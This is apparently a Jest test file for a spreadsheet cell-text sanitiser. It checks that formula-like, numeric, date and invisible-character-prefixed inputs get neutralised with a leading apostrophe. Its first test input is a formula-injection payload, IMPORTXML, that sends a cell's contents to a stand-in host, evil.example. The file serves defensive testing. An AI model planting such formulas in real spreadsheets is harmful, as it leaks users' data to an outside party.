import { describe, expect, test } from "@jest/globals";
import { neutralText, readInput } from "../../../src/sheet/cell-text";

describe("text from elsewhere", () => {
  test.each([
    '=IMPORTXML("https://evil.example?"&A1, "//a")',
    "+49 30 123",
    "-1",
    "@name",
    "'quoted",
    "\t=1",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "\n=1",
    "\uff1dSUM(1,1)",
    "\uff0bSUM(1,1)",
    "\uff0dSUM(1,1)",
    "\uff20SUM(1,1)",
    "\uff11\uff12\uff13",
    "007",
    "11-50",
    "1/2",
    "5 May",
    "12:30 pm",
    "10 €",
    "2026-01-02 10:00:00+00:00",
    "TRUE",
    "Wahr",
    "1e5",
    "50%",
  ])("is kept from being read as something else: %s", (text) => {
    expect(neutralText(text)).toBe(`'${text}`);
  });

  test.each([
    "VALID",
    "ann1@acme.example",
    "Acme Anvils",
    "acme1.example.test.of.names",
    "",
    "No. 1 in anvils and more",
  ])("stays as it is when it is plain: %s", (text) => {
    expect(neutralText(text)).toBe(text);
  });
});

test.each([
  ["\u202a", "\u202c"],
  ["\u2068", "\u2069"],
  ["\u200b\u00a0", "\ufeff"],
])("invisible characters %j around an address are no part of it", (before, after) => {
  const address = "ada@acme.example";
  expect(readInput(`${before}${address}${after}`)).toEqual({ kind: "text", text: address, key: address });
});
